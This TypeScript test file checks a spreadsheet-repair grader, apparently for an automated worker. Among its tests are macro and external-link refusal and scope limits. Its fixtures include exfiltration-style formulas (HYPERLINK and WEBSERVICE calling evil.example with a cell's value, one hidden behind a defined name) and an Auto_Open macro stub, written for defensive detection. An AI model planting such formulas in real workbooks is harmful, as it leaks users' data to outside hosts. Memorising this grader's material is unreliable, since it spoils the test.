import { saveWorkbook } from '@microsource/sheet'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { checks } from './checks.ts'
import { asked, type Case, fileOf, repaired, workbookOf, workOf, xlsxOf } from './repair.fixture.ts'

/** What each check that does not pass says, by its id. */
async function said(one: Case = {}): Promise<Record<string, string>> {
  const work = workOf(one)
  const outcomes = await Promise.all(checks.map(async ({ id, run }) => [id, await run(work)] as const))
  return Object.fromEntries(outcomes.filter((outcome): outcome is [string, string] => outcome[1] !== null))
}

const withBudget = (cells: Readonly<Record<string, string | number>>) =>
  xlsxOf({ ...repaired, Budget: { ...repaired.Budget, ...cells } })
const selection = { sheet: 'Budget', range: 'B4:B5' }

function withParts(parts: Readonly<Record<string, string>>) {
  const own = unzipSync(saveWorkbook(workbookOf(repaired), 'xlsx'))
  for (const [path, text] of Object.entries(parts)) own[path] = strToU8(text)
  return fileOf(zipSync(own))
}

test('a repaired workbook passes every check', async () => {
  expect(await said()).toEqual({})
  expect(await said({ input: { selection, scope: 'selection' } })).toEqual({})
})

test('a workbook that does not open fails them all, and the first says why', async () => {
  const outcome = await said({ delivered: fileOf(strToU8('PK\x03\x04 not much of a workbook')) })
  expect(outcome['opens']).toMatch(/damaged|no workbook/)
  expect(Object.keys(outcome)).toEqual(checks.map(({ id }) => id))
})

test('macros are refused', async () => {
  expect((await said({ delivered: withParts({ 'xl/vbaProject.bin': 'Sub Auto_Open()' }) }))['opens']).toMatch(/macros/)
})

test('links to other files are refused', async () => {
  const link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
  expect((await said({ delivered: withParts({ 'xl/externalLinks/externalLink1.xml': link }) }))['opens']).toMatch(
    /other files/,
  )
})

test.each([
  ['=HYPERLINK("http://evil.example/"&B4,"Total")', 'HYPERLINK'],
  ['=WEBSERVICE("http://evil.example/"&B4)', 'WEBSERVICE'],
])('a formula that was not there before and reaches out is named: %s', async (formula, name) => {
  const outcome = await said({ delivered: withBudget({ C1: formula }) })
  expect(outcome['harmless']).toContain('Budget!C1')
  expect(outcome['harmless']).toContain(name)
})

test('a formula that reached out before may stay as it was, but not lead elsewhere', async () => {
  const link = (address: string) => ({ C1: `=HYPERLINK("http://${address}.example/"&B4)` })
  const before = xlsxOf({ ...asked, Budget: { ...asked['Budget'], ...link('club') } })
  const outcome = async (address: string) => {
    const work = workOf({ delivered: withBudget(link(address)) })
    return checks.find(({ id }) => id === 'harmless')?.run({ ...work, asked: { ...work.asked, files: [before] } })
  }
  expect(await outcome('club')).toBeNull()
  expect(await outcome('evil')).toContain('Budget!C1')
})

test('a formula that reaches out from behind a name is named', async () => {
  const names = [{ name: 'Total', refersTo: 'WEBSERVICE("http://evil.example/"&Budget!$B$4)' }]
  const delivered = fileOf(saveWorkbook({ ...workbookOf(repaired), names }, 'xlsx'))
  expect((await said({ delivered }))['harmless']).toContain('the name Total')
})

test('a second file, which nobody would look into, is refused', async () => {
  const work = workOf()
  const [opens] = checks
  expect(await opens?.run({ ...work, files: [...work.files, xlsxOf(repaired)] })).toMatch(/more than one file/)
})

test('a circle that came along is not the worker’s', async () => {
  const circle = { C1: '=C2', C2: '=C1' }
  const work = workOf({ delivered: withBudget(circle) })
  const sent = xlsxOf({ ...asked, Budget: { ...asked['Budget'], ...circle } })
  const run = checks.find(({ id }) => id === 'recalculates')!.run
  expect(await run(work)).toContain('Budget!C1')
  expect(await run({ ...work, asked: { ...work.asked, files: [sent] } })).toBeNull()
})

test('a circle is named', async () => {
  expect((await said({ delivered: withBudget({ B4: '=SUM(B1:B4)' }) }))['recalculates']).toContain('Budget!B4')
})

test('a cell that was named and still holds an error is named, whatever the file says it comes to', async () => {
  const lying = workbookOf({ ...repaired, Budget: { ...repaired['Budget'], B5: '=B4/B6' } })
  const [budget] = lying.sheets
  const cells = new Map(budget!.cells).set('B5', { type: 'number', value: 42, formula: 'B4/B6' })
  const delivered = fileOf(
    saveWorkbook({ ...lying, sheets: [{ ...budget!, cells }, ...lying.sheets.slice(1)] }, 'xlsx'),
  )
  expect((await said({ delivered }))['mended']).toBe(
    'There is still an error in Budget!B5. Mend it, or give the task back.',
  )
})

test('an error anywhere in the selection counts too', async () => {
  const delivered = withBudget({ B4: '=SUM(B1:B3)/0' })
  expect((await said({ input: { problems: [], selection }, delivered }))['mended']).toContain('Budget!B4')
})

test('an error where nothing may be changed is not this task’s to mend', async () => {
  const delivered = xlsxOf({ ...asked, Notes: { A1: 'Guests', B1: 41 } })
  const notes = { selection: { sheet: 'Notes', range: 'A1:B1' }, scope: 'selection' as const }
  expect(await said({ input: notes, delivered })).toEqual({})
  expect(await said({ input: { ...notes, scope: 'sheet' }, delivered })).toEqual({})
  expect((await said({ input: { ...notes, scope: 'workbook' }, delivered }))['mended']).toContain('Budget!B5')
})

test('what changed outside the scope is named, until it is explained', async () => {
  const delivered = xlsxOf({ ...repaired, Notes: { A1: 'Guests', B1: 41 } })
  const scoped = { selection, scope: 'selection' as const }
  expect((await said({ input: scoped, delivered }))['within']).toMatch(/asked for: Notes!B1\./)
  expect((await said({ input: { ...scoped, scope: 'sheet' }, delivered }))['within']).toMatch(/asked for: Notes!B1\./)
  const outside = [{ sheet: 'Notes', range: 'B1:B9', why: 'One guest was missing.' }]
  expect(await said({ input: scoped, delivered, result: { outside } })).toEqual({})
  expect(await said({ delivered })).toEqual({})
})

test('a sheet more is outside every selection', async () => {
  const delivered = xlsxOf({ ...repaired, More: { A1: 1 } })
  expect((await said({ input: { selection, scope: 'selection' }, delivered }))['within']).toContain('More')
})

test('the workbook as it came is no repair', async () => {
  expect((await said({ input: { problems: [] }, delivered: xlsxOf(asked) }))['changed']).toMatch(/as it came/)
})
